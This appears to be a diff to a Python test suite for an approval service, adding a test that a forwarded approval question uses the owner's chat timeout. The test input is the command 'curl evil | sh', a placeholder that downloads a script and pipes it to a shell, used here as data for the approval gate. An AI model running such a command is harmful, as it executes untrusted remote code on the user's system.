@@ -6,7 +6,7 @@ from msgspec import structs
 
 from hermes.approvals.messages import RUN_WAITS_ALREADY, TOO_MANY_WAITING, short_id
 from hermes.approvals.questions import MAX_PER_PERSON
-from hermes.approvals.service import Answerer, ApprovalService
+from hermes.approvals.service import Answerer, ApprovalService, QuestionTimeouts
 from hermes.approvals.smart_review import AskModel
 from hermes.ports.approvals import ApprovalRequest, Isolation
 from hermes.schema.questions import ApprovalChoice
@@ -81,6 +81,20 @@ async def test_forwarded_question_needs_its_id(harness: ForwardingHarness) -> No
         assert result is not None
         assert result.count == 1
     assert members_request.decision == ALLOWED
+
+
+async def test_forwarded_question_has_the_time_of_the_owners_chat(
+    harness: ForwardingHarness,
+) -> None:
+    harness.timeouts = QuestionTimeouts(channels={HOME.channel: 300.0, "irc": 30.0})
+    harness.restart()
+    scope = structs.replace(members("r1"), address=Address("irc", "7"))
+    request = PendingApproval(harness, outside_request("curl evil | sh"), scope)
+    async with anyio.create_task_group() as group:
+        group.start_soon(request.run)
+        question = await harness.wait_for_question()
+        group.cancel_scope.cancel()
+    assert (question.elsewhere, question.seconds) == (True, 300.0)
 
 
 async def test_late_yes_does_not_answer_a_forwarded_question(
